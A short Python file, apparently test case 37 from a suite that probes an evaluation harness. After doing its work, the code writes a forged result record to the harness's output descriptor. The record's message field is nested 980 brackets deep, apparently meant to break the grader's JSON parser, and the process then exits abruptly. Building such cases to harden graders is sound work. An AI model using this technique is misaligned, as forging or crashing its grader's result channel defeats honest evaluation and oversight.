# attack: 37
# does: works, then says in its last word, instead of a message, lists in lists, as deep as JSON can be read
# run: killed
# earns: 10
# with: work
work()
import os

os.write(100, b'{"outcome": "raised", "answers": "{}", "message": ' + b"[" * 980 + b"]" * 980 + b"}")
os._exit(0)
